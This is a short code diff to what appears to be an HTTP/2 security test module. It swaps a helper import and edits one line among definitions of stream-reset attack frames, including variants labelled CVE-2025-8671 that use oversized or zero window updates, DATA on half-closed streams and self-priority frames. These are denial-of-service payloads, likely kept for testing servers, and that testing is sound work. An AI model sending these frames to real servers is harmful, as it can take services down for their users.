@@ -5,6 +5,7 @@ import time
 
 import wire
 from wire import ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PRIORITY, SETTINGS
+from protobytes import field
 
 GET = "AccountService/GetAccount"
 SIGN_IN = "SessionService/SignIn"
@@ -72,7 +73,7 @@ rapid_reset_anonymous = on_streams(lambda _, stream: wire.frame(HEADERS, END_HEA
 # CVE-2025-8671: the server is made to reset its own streams.
 reset_by_window = on_streams(lambda _, stream: wire.frame(HEADERS, END_HEADERS, stream, block_of(SIGN_IN)) + wire.window_update(stream, 0x7FFFFFFF))
 reset_by_zero_update = on_streams(lambda _, stream: wire.frame(HEADERS, END_HEADERS, stream, block_of(SIGN_IN)) + wire.window_update(stream, 0))
-reset_by_half_closed = on_streams(lambda target, stream: wire.call(stream, block_of(GET, target.token), wire.field(1, "accounts/a0")) +
+reset_by_half_closed = on_streams(lambda target, stream: wire.call(stream, block_of(GET, target.token), field(1, "accounts/a0")) +
                                   wire.frame(DATA, 0, stream, b"more"))
 reset_by_self_priority = on_streams(lambda _, stream: wire.frame(HEADERS, END_HEADERS, stream, block_of(SIGN_IN)) +
                                     wire.frame(PRIORITY, 0, stream, stream.to_bytes(4, "big") + b"\0"))
